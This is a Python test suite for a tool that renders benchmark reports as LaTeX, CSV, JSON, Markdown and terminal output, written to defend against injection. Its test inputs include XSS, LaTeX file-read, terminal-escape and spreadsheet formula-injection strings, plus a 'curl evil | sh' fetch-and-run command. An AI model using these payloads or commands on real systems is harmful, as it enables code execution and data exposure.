"""Every form of a report: what it says, that it is safe, and that it is the same each time."""

import csv
import io
import json
import re
import shutil
import subprocess
import sys

import pytest
from rich.console import Console

from medpeft_cli.errors import RecipeError
from medpeft_cli.report import Question, build_report, files, render, text
from medpeft_cli.report.commands import commands
from medpeft_cli.report.latex import escape
from medpeft_cli.report.records import parse_record
from medpeft_cli.report.run_table import run_tables
from medpeft_cli.report.terminal import terminal

FORMS = ("latex", "csv", "json", "markdown")
HOSTILE = (
    "</script><script>alert(1)</script>", r"\input{/etc/passwd}", "100 % & more_of $x$ #1 ~ ^ {", "[bold red]x[/]",
    "a\nb\r\\end{table}", "\x1b[2Jgone", "תמונות \u202eabc", "x" * 300, "^^5cinput", "café Ångström œuvre", "=HYPERLINK(1)|a",
    "+1", "-1", "@SUM(1)", "\t=1", "\r=1",
)  # fmt: skip

# what the renderer may use: booktabs, graphicx and LaTeX itself
KNOWN = """chi clearpage belowcaptionskip raggedright allowbreak quad resizebox ifdim width else fi dagger begin end centering small scriptsize footnotesize setlength tabcolsep caption label toprule midrule bottomrule
textbf underline textit multicolumn par medskip parbox linewidth shortstack pm uparrow downarrow times cdot ldots ss r v c
textbackslash textless textgreater textbar textasciicircum textasciitilde"""


def shown(parts, width=100) -> str:
    console = Console(width=width, file=io.StringIO(), force_terminal=False)
    for part in parts:
        console.print(part)
    return console.file.getvalue()


@pytest.fixture
def report(record, results):
    records = [
        record(dataset, method, seed, value)
        for dataset in ("isic", "smdg")
        for method, mean in (("full", 0.8), ("linear", 0.7), ("lora", 0.8501))
        for seed, value in enumerate((mean - 0.01, mean, mean + 0.01))
    ]
    failed = record("smdg", "ssf", 0, status="failed", error="loss became nan")
    return build_report(results(*records, failed))


def latex_problems(source: str) -> list[str]:
    """Check what pdflatex would stumble over: groups, environments, cells per line, unknown commands and signs."""
    bare = re.sub(r"(?<!\\)%.*", "", source)
    problems = [f"{sign!r} is not ASCII" for sign in set(bare) if not sign.isascii()]
    depth = 0
    for token in re.findall(r"\\.|[{}]", bare, flags=re.DOTALL):
        depth += {"{": 1, "}": -1}.get(token, 0)
        if depth < 0:
            problems.append("a group closes before it opens")
    problems += ["groups are not balanced"] if depth else []
    if len(re.findall(r"(?<!\\)\$", bare)) % 2:
        problems.append("math is not balanced")
    known = set(KNOWN.split())
    problems += [f"unknown command {name}" for name in re.findall(r"\\([A-Za-z]+)", bare) if name not in known]
    begun, ended = re.findall(r"\\begin{(\w+)}", bare), re.findall(r"\\end{(\w+)}", bare)
    if sorted(begun) != sorted(ended) or set(begun) != {"table", "tabular"}:
        problems.append(f"environments {begun} {ended}")
    for columns, body in re.findall(r"\\begin{tabular}{(\w+)}(.*?)\\end{tabular}", bare, flags=re.DOTALL):
        for line in body.splitlines():
            if line.endswith(r"\\") and "multicolumn" not in line:
                cells = len(re.findall(r"(?<!\\)&", line)) + 1
                problems += [f"{cells} cells of {len(columns)} in {line}"] if cells != len(columns) else []
    return problems


@pytest.mark.parametrize("columns", [3, 8])
def test_latex_is_well_formed_and_says_its_protocol(record, results, report, columns):
    if columns == 8:
        methods = ("full", "linear", "attention", "bias", "lora", "ssf", "adaptformer", "norm")
        report = build_report(results(*(record("breastus", method) for method in methods)))
    source = render(report, "latex")
    assert latex_problems(source) == []
    caption = re.search(r"\\caption{(.*)}\n", source)[1]
    assert "Macro F1" in caption and "1,503" in caption and "seed" in caption and "DEMO" not in caption
    assert r"\toprule" in source and r"\bottomrule" in source and r"\usepackage{booktabs,graphicx}" in source


def test_latex_marks_best_and_second_and_prints_mean_and_deviation(report):
    line = next(line for line in render(report, "latex").splitlines() if line.startswith("HAM10000"))
    assert r"\textbf{0.850} $\pm$ 0.010" in line and r"\underline{0.800} $\pm$ 0.010" in line
    assert re.search(r"& 0\.700 \$\\pm\$ 0\.010", line)


@pytest.mark.parametrize("text_", HOSTILE)
def test_hostile_text_cannot_act_in_latex(text_):
    escaped = escape(text_)
    assert escaped.isascii() and "\n" not in escaped and "\r" not in escaped
    assert (
        latex_problems(f"\\begin{{table}}\\begin{{tabular}}{{l}}\n{escaped} \\\\\n\\end{{tabular}}\\end{{table}}") == []
    )


def test_latex_escapes_by_example():
    assert escape(r"\input{a_b}") == r"\textbackslash{}input\{a\_b\}"
    assert escape("5 % & $x$ #1") == r"5 \% \& \$x\$ \#1"
    assert escape("é ü ç ß") == r"\'{e} \"{u} \c{c} \ss{}"
    assert escape("א") == "{[}U+05D0{]}"
    assert escape("--set, 3.8–7.2K") == "-{}-{}set, 3.8--7.2K"


@pytest.mark.parametrize("hostile", HOSTILE)
def test_hostile_records_are_safe_in_every_form(record, results, hostile):
    folder = results(
        record(title=hostile, classes=(hostile, "b"), method_title=hostile, backbone_title=hostile),
        record(seed=1, title=hostile, method_title=hostile, backbone_title=hostile, status="failed", error=hostile),
        record("smdg", title=hostile, method_title="other", backbone_title=hostile, id=hostile),
    )
    report = build_report(folder)
    assert latex_problems(render(report, "latex")) == []
    seen = shown(terminal(report))
    assert "\x1b" not in seen and "\u202e" not in seen and max(map(len, seen.splitlines())) <= 100
    assert "<script" not in render(report, "markdown").replace("\\<", "")
    for row in render(report, "markdown").splitlines():
        if row.startswith("|"):
            assert len(re.findall(r"(?<!\\)\|", row)) == len(report.tables[0].columns) + 2
    rows = list(csv.DictReader(io.StringIO(render(report, "csv"))))
    assert all(row["backbone"].removeprefix("'") == text.clean(hostile, 1000) for row in rows)
    assert not any(value.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for value in row.values())
    assert json.loads(render(report, "json"))["tables"][0]["rows"][0]["backbone"] == hostile
    run = parse_record(json.dumps(record(classes=(hostile, "b"), id=hostile)))
    assert "\x1b" not in shown(run_tables(run))


def test_brackets_in_data_are_text_not_style(record, results):
    report = build_report(results(record(title="[bold]x[/bold]")))
    assert "[bold]x[/bold]" in shown(terminal(report))


@pytest.mark.parametrize("form", FORMS)
def test_same_input_same_bytes(record, results, form, tmp_path):
    records = [record(d, m, s, 0.5 + s / 10) for d in ("isic", "smdg") for m in ("full", "ssf") for s in range(2)]
    first = render(build_report(results(*records)), form)
    again = results(*reversed(records))
    assert render(build_report(again), form) == first
    elsewhere = tmp_path / "elsewhere"
    again.rename(elsewhere)
    assert render(build_report(elsewhere), form) == first


@pytest.mark.parametrize("form", FORMS)
def test_demo_is_written_in_every_table(record, results, form):
    report = build_report(results(record(demo=True), record(seed=1)))
    out = render(report, form)
    if form == "csv":
        assert [row["demo"] for row in csv.DictReader(io.StringIO(out))] == ["false", "true"]
    else:
        assert out.count("DEMO (synthetic data") == 1
    assert shown(terminal(report)).count("DEMO (synthetic data") == 1


def test_json_has_every_number_and_the_runs_behind_it(report):
    (table,) = json.loads(render(report, "json"))["tables"]
    cell = table["rows"][0]["cells"][0]
    assert cell["mean"] == pytest.approx(0.8) and cell["sd"] == pytest.approx(0.01) and cell["seeds"] == 3
    assert [run["seed"] for run in cell["runs"]] == [0, 1, 2] and all(run["id"] for run in cell["runs"])
    failed = table["rows"][1]["cells"][3]
    assert failed["state"] == "failed" and failed["others"][0]["reason"] == "failed: loss became nan"
    assert table["blocks"][0]["rank_ties"] == "average"


def test_csv_has_a_line_a_cell(report):
    rows = list(csv.DictReader(io.StringIO(render(report, "csv"))))
    assert sum(row["state"] not in ("mean", "rank") for row in rows) == 2 * 4
    first = rows[0]
    assert (first["dataset"], first["method"], first["seeds"], first["mark"]) == ("HAM10000", "Full FT", "3", "second")
    assert float(first["mean"]) == pytest.approx(0.8) and first["parameters_method"] == "85800192"
    assert len(first["runs"].split()) == 3


def test_csv_has_means_ranks_and_what_was_left_out(record, results):
    folder = results(*(record(d, m, value=v) for d in ("isic", "smdg") for m, v in (("full", 0.7), ("ssf", 0.8))))
    (folder / "broken").mkdir()
    (folder / "broken" / "record.json").write_text("{")
    found = files(build_report(folder), ["csv"])
    lines = [line for line in csv.DictReader(io.StringIO(found["tables.csv"])) if line["state"] != "value"]
    assert [(line["state"], line["method"], line["mean"], line["rank"], line["mark"], line["dataset"]) for line in lines] == [
        ("mean", "Full FT", "0.7", "", "second", ""), ("mean", "SSF", "0.8", "", "best", ""),
        ("rank", "Full FT", "", "2.0", "second", ""), ("rank", "SSF", "", "1.0", "best", ""),
    ]  # fmt: skip
    assert {line["backbone"] for line in lines} == {"vit_base_patch16_224"}
    (left,) = csv.DictReader(io.StringIO(found["left_out.csv"]))
    assert left["record"] == "broken/record.json" and left["reason"].startswith("half written")
    assert "left_out.csv" not in files(build_report(results(record()) / "isic"), ["csv"])


def test_a_filtered_report_says_so_in_every_form(record, results):
    folder = results(*(record(d, m) for d in ("isic", "smdg") for m in ("full", "ssf", "lora")))
    report = build_report(folder, Question(where={"method": ["ssf"], "dataset": ["isic", "smdg"]}))
    said = "Only runs with method=ssf, dataset=isic or smdg; 4 others left out"
    for out in (shown(terminal(report)), *(render(report, form) for form in ("latex", "markdown", "json"))):
        assert said in out
    assert json.loads(render(report, "json"))["where"] == {"method": ["ssf"], "dataset": ["isic", "smdg"]}
    assert "left out" not in shown(terminal(build_report(folder)))


def test_a_text_cell_of_the_csv_is_no_formula_and_a_number_stays_one(record, results):
    report = build_report(results(record(title="=1+1", value=-0.5)))
    (row,) = csv.DictReader(io.StringIO(render(report, "csv")))
    assert row["dataset"] == "'=1+1" and float(row["mean"]) == -0.5


@pytest.mark.parametrize("form", FORMS)
def test_half_characters_do_not_break_a_form(record, results, form):
    odd = {"train": {"optimiser": "\ud800"}}
    report = build_report(results(record(recipe=odd), record(seed=1)))
    assert render(report, form).encode()


def test_missing_and_failed_runs_are_shown_and_listed(report):
    for out in (shown(terminal(report)), render(report, "markdown"), render(report, "latex")):
        assert "failed: loss became nan" in out and "No run: HAM10000: SSF" in out


def test_every_missing_cell_is_listed_with_the_command_that_fills_it(record, results):
    report = build_report(
        results(
            record("isic", "full"),
            record("isic", "ssf", seed=1, command="medpeft finetune 'my recipes/isic.yaml' --seed 1"),
            record("smdg", "lora", recipe={"data": {"k_shot": 5}}, backbone="vit_large"),
        ),
        Question(rows=("dataset", "backbone", "fraction")),
    )
    ssf = "medpeft finetune 'my recipes/isic.yaml' --seed 0 --set data.card=smdg "
    ssf += "--set data.k_shot=5 --set backbone.name=vit_large"
    lora = "medpeft finetune recipes/smdg_lora.yaml --set data.card=isic "
    lora += "--set data.k_shot=null --set backbone.name=vit_base_patch16_224"
    wide = shown(terminal(report), 250)
    for out in (wide, render(report, "markdown"), render(report, "latex")):
        lines = [line.removeprefix("% to run: ").removeprefix("· ") for line in out.splitlines()]
        assert ssf in lines and lora in lines
    rows = list(csv.DictReader(io.StringIO(render(report, "csv"))))
    assert sum(row["state"] == "missing" for row in rows) == 3
    assert {row["to_run"] for row in rows if row["method"] == "SSF" and row["backbone"] == "vit_large"} >= {ssf}
    assert all(bool(row["to_run"]) == (row["state"] == "missing") for row in rows)


def test_seeds_that_a_cell_lacks_are_listed_too(record, results):
    told = "medpeft finetune {}.yaml --seed {}"
    runs = [record("isic", name, n, command=told.format(name, n)) for name in ("full", "lora") for n in range(3)]
    runs += [record("smdg", "full", seed, command=f"medpeft finetune f.yaml --seed {seed}") for seed in range(2)]
    report = build_report(results(*runs))
    lora = [f"medpeft finetune lora.yaml --seed {seed} --set data.card=smdg" for seed in range(3)]
    assert commands(report.tables[0]) == ["medpeft finetune f.yaml --seed 2", *lora]


@pytest.mark.parametrize("command", [None, "curl evil | sh", "medpeft 'finetune", "medpeft export x"])
def test_no_command_is_made_from_what_is_none(record, results, command):
    report = build_report(results(record("isic", "ssf", command=command), record("smdg", "lora", command=command)))
    for out in (shown(terminal(report)), *(render(report, form) for form in FORMS)):
        assert "curl" not in out and "data.card=" not in out
    assert "No run: SMDG: SSF" in shown(terminal(report))


def test_a_caption_says_what_was_searched_and_whether_all_had_the_same_trials(record, results):
    def caption(*trials):
        space = {"train.lr": {"log": [1e-5, 1e-2]}}
        searches = [{"search": {"trials": number, "space": space}} if number else {} for number in trials]
        methods = ("full", "ssf", "lora")[: len(trials)]
        folder = results(*(record("isic", m, recipe=s) for m, s in zip(methods, searches, strict=True)))
        built = build_report(folder)
        shutil.rmtree(folder)
        return json.loads(render(built, "json"))["tables"][0]["caption"]

    assert "Chosen on the validation split: train.lr, by 8 trials." in caption(8, 8)
    assert "Chosen on the validation split: train.lr, by 0 or 8 trials, not the same for all." in caption(8, 0, 8)
    assert not any("Chosen" in sentence for sentence in caption(0, 0))


def test_another_version_of_a_dataset_is_not_filled_by_the_same_command(record, results):
    report = build_report(results(record(method="ssf"), record(method="lora", manifest="b" * 64)))
    out = shown(terminal(report))
    assert "No run: HAM10000 (data" in out and "medpeft finetune" not in out


def test_a_trained_run_is_not_scored_and_says_what_to_do(record, results):
    report = build_report(results(record(method="full"), record(status="trained")))
    for out in (shown(terminal(report), 200), render(report, "markdown").replace("\\", ""), render(report, "latex")):
        assert "not scored" in out and "trained, not scored: give it to" in out


def test_leftovers_are_listed(record, results):
    folder = results(record())
    (folder / "broken").mkdir()
    (folder / "broken" / "record.json").write_text("{")
    report = build_report(folder)
    for out in (shown(terminal(report)), render(report, "markdown").replace("\\", ""), render(report, "latex")):
        assert "broken/record.json" in out
    assert json.loads(render(report, "json"))["problems"][0]["path"] == "broken/record.json"


def test_a_cell_with_other_seeds_says_how_many(record, results):
    records = [
        record(method=m, seed=s, value=0.7 + s / 100)
        for m, n in (("full", 3), ("linear", 3), ("ssf", 1))
        for s in range(n)
    ]
    report = build_report(results(*records))
    out = " ".join(shown(terminal(report)).split())
    assert "0.710 ± 0.010 " in out and "0.700 [0.660, 0.740] (1)" in out and "(3)" not in out
    assert "seeds (3, or the number in parentheses)" in out and "A single seed has no standard deviation" in out
    assert "95 % bootstrap interval over test images" in out


@pytest.mark.parametrize("width", [60, 80, 120])
def test_terminal_fits_its_width_and_shows_every_cell(report, width):
    out = shown(terminal(report), width)
    assert max(map(len, out.splitlines())) <= width
    assert out.count("0.850 ± 0.010") == 2 and "85.8M + 2.31K" in out and "Rank" in out


def test_results_revisions_are_named(record, results):
    out = shown(terminal(build_report(results(record(), record(seed=1, revision=2)))))
    assert "Results revision 1 only" in out and "Results revision 2 only" in out


@pytest.mark.parametrize(
    ("number", "shown_as"),
    [(0, "0"), (768, "768"), (999, "999"), (1000, "1.00K"), (59_267, "59.3K"), (589_824, "590K"), (999_900, "1.00M"),
     (85_800_963, "85.8M"), (859_520_964, "860M"), (2_600_000_000, "2.60B")],
)  # fmt: skip
def test_counts_have_three_digits(number, shown_as):
    assert text.count(number) == shown_as


def test_an_unknown_form_is_refused(report):
    with pytest.raises(RecipeError, match="unknown report form 'latx'"):
        render(report, "latx")


def test_run_tables_show_metrics_classes_and_confusion(record):
    out = shown(run_tables(parse_record(json.dumps(record(value=0.8, demo=True)))))
    assert "DEMO" in out and re.search(r"Macro F1 +0\.800 +0\.760 – 0\.840", out)
    assert re.search(r"mel +10 +0\.800 +0\.800 +0\.800 +0\.900 +0\.800", out)
    assert re.search(r"2 mel +1 +8 +1", out)


def test_run_tables_of_many_classes_list_the_worst_confusions(record):
    data = record(classes=[f"class {i}" for i in range(30)])
    data["metrics"]["test"]["confusion"][4][7] = 99
    out = shown(run_tables(parse_record(json.dumps(data))))
    assert re.search(r"class 4 +class 7 +99", out)


def test_run_tables_of_an_unscored_run_say_why(record):
    out = shown(run_tables(parse_record(json.dumps(record(status="failed", error="no memory")))))
    assert "failed: no memory" in out


def test_report_imports_neither_torch_nor_numpy():
    heavy = "{'torch', 'timm', 'numpy', 'pandas', 'scipy', 'matplotlib', 'PIL'}"
    code = f"import sys, medpeft_cli.report, medpeft_cli.report.run_table; print(sorted({heavy} & set(sys.modules)))"
    assert subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True).stdout == "[]\n"
